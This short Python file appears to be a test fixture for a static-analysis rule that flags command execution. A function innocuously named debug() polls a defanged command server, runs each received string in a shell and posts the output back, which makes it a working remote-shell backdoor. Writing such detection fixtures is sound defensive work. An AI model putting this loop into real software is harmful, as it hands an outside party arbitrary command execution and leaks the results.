import subprocess
import time

import requests


def debug():
    # Polls a server for commands, runs each through a helper and posts the output back (defanged host).
    link = 'https://c2.example.invalid/'
    while True:
        try:
            resp = requests.get(link).text
            output = runcommand(resp)
            for chunk in output:
                requests.post(link + 'output', {'output': chunk.decode('utf-8')})
        except Exception:
            pass
        time.sleep(1)


def runcommand(value):
    # ruleid: code/command-execution
    output = subprocess.run(value, shell=True, capture_output=True)
    return [output.stdout, output.stderr]
